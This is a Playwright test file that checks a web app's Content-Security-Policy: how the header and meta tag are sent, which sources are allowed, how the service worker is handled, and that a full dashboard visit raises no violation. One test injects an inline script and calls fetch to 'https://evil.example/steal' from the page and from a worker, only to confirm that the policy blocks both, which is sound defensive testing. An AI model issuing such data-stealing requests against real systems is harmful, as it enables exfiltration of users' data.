// The Content-Security-Policy of the built app (issue 7): it is there, it is enforced, and a whole visit
// never trips it. Every other browser test also fails on any violation (see fixtures.ts), so this file
// proves the policy is real and that the visit touches everything it allows.
import type { Worker } from '@playwright/test';
import { expect, test } from './fixtures.ts';
import {
  agentRows,
  heading,
  heatButton,
  mapRegion,
  PRODUCT,
  returnButton,
  search,
  waitForCompletion,
  waitForMap,
  waitForWorkerReady,
} from './dashboard.ts';

/** The directives of a policy, each with its sources. */
function parsePolicy(policy: string): Map<string, string[]> {
  const directives = new Map<string, string[]>();
  for (const part of policy.split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) directives.set(name, sources);
  }
  return directives;
}

test('the built app sends its policy as a meta tag and a header, scripts from itself only', async ({
  page,
}) => {
  const response = await page.goto('/');
  const header = (await response?.headerValue('content-security-policy')) ?? '';
  const meta =
    (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? '';
  expect(meta).not.toBe('');
  // The header says what the page says, and forbids framing, which only a header can.
  expect(header).toBe(`${meta}; frame-ancestors 'none'`);

  const policy = parsePolicy(meta);
  expect(policy.get('script-src')).toEqual(["'self'"]);
  expect(policy.get('style-src')).toEqual(["'self'"]);
  expect(policy.get('worker-src')).toEqual(["'self'", 'blob:']);
  expect(policy.get('object-src')).toEqual(["'none'"]);
  // The configured geocoder and the four tile hosts (the default build), and nothing else.
  expect(policy.get('connect-src')).toEqual([
    "'self'",
    'https://a.basemaps.cartocdn.com',
    'https://b.basemaps.cartocdn.com',
    'https://c.basemaps.cartocdn.com',
    'https://d.basemaps.cartocdn.com',
    'https://nominatim.openstreetmap.org',
  ]);
  expect(meta).not.toMatch(/unsafe-(inline|eval)/);
  // No inline script in the page: everything runs from the app's own files.
  expect(await page.locator('script:not([src])').count()).toBe(0);
});

test('the policy is enforced: inline script and other hosts are refused, in the page and the worker', async ({
  page,
  consoleGuard,
}) => {
  // The violations provoked here are the point of the test.
  consoleGuard.allow(/evil\.example|blocked inline|Content Security Policy/);
  const workers: Worker[] = [];
  page.on('worker', (worker) => {
    if (/\/assets\/entry-[^/]*\.js$/.test(worker.url())) workers.push(worker);
  });
  await page.goto('/dashboard?outage=never');
  await waitForWorkerReady(page);

  const outcome = await page.evaluate(async () => {
    const inline = document.createElement('script');
    inline.textContent = 'window.__inlineRan = true;';
    document.head.append(inline);
    const fetched = await fetch('https://evil.example/steal').then(
      () => true,
      () => false,
    );
    await new Promise((resolve) => setTimeout(resolve, 200)); // violation events are queued
    return {
      inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true,
      fetched,
    };
  });
  expect(outcome).toEqual({ inlineRan: false, fetched: false });

  // The worker runs under the header's policy (a worker does not inherit the page's meta tag).
  const worker = workers[0];
  if (!worker) throw new Error('no directory worker');
  const workerFetched = await worker.evaluate(() =>
    fetch('https://evil.example/steal').then(
      () => true,
      () => false,
    ),
  );
  expect(workerFetched).toBe(false);
  // Both refusals were the policy's doing, not the network's: the fixture would have seen the requests.
  await expect
    .poll(
      () => consoleGuard.messages.filter((line) => /Content Security Policy.*connect-src/.test(line)).length,
    )
    .toBeGreaterThanOrEqual(2);
});

test('a whole visit — login, search, heat map, profile and back — raises no CSP violation', async ({
  page,
  geocoder,
  tiles,
}) => {
  test.setTimeout(120_000);
  // Everything the policy allows is used: the geocoder answers, the remote tiles load.
  geocoder.answer();
  tiles.serve();
  await page.goto('/');
  await page.getByRole('textbox', { name: 'Username' }).fill('visitor');
  await page.getByPlaceholder('Password', { exact: true }).fill('visitor-password');
  await page.getByRole('button', { name: 'ENTER DIRECTORY' }).click();
  await expect(heading(page)).toHaveText(`Welcome Agent — ${PRODUCT}`);
  await waitForMap(page);

  await search(page, 'tokyo');
  await waitForCompletion(page);
  expect(await agentRows(page).first().textContent()).toContain('Japan');
  await heatButton(page).click();
  await expect(mapRegion(page)).toHaveAttribute('data-heat', 'on');
  expect(tiles.requests.length, 'remote tiles were fetched').toBeGreaterThan(0);

  const link = agentRows(page).nth(3).getByRole('link');
  const codename = (await link.textContent())?.trim() ?? '';
  await link.click();
  await expect(heading(page)).toHaveText(`Agent Profile — ${codename}`);
  await returnButton(page).click();
  await expect(heading(page)).toHaveText(`Welcome Agent — ${PRODUCT}`);
  await expect(agentRows(page)).toHaveCount(12);
  // The fixture fails the test on any violation reported by the pages, and on any console error
  // (a violation in a worker is reported there).
});

test.describe('the offline app (issue 22)', () => {
  // Every other test blocks service workers (playwright.config.ts); these need one.
  test.use({ serviceWorkers: 'allow' });

  test('the service worker registers and takes the page, and the manifest loads, under the policy', async ({
    page,
    request,
  }) => {
    const response = await page.goto('/');
    const header = (await response?.headerValue('content-security-policy')) ?? '';
    expect(header).not.toBe('');
    // Registered by the app's own bundle (worker-src 'self'), not by an inline script.
    expect(await page.locator('script:not([src])').count()).toBe(0);
    await page.evaluate(() => navigator.serviceWorker.ready);
    await expect
      .poll(() => page.evaluate(() => navigator.serviceWorker.controller?.scriptURL ?? ''))
      .toMatch(/\/sw\.js$/);
    // The service worker's script comes with the same header, so the worker itself runs under the policy.
    const script = await request.get('/sw.js');
    expect(script.headers()['content-security-policy']).toBe(header);

    // The browser reads the manifest as it would to install the app: manifest-src falls back to
    // default-src 'self', which allows it.
    const cdp = await page.context().newCDPSession(page);
    const manifest = await cdp.send('Page.getAppManifest', {});
    expect(manifest.url).toMatch(/\/manifest\.webmanifest$/);
    expect(manifest.errors).toEqual([]);
    expect(JSON.parse(manifest.data ?? '{}')).toMatchObject({ name: PRODUCT, display: 'standalone' });
    // The fixture fails the test on any violation the page reported.
  });
});
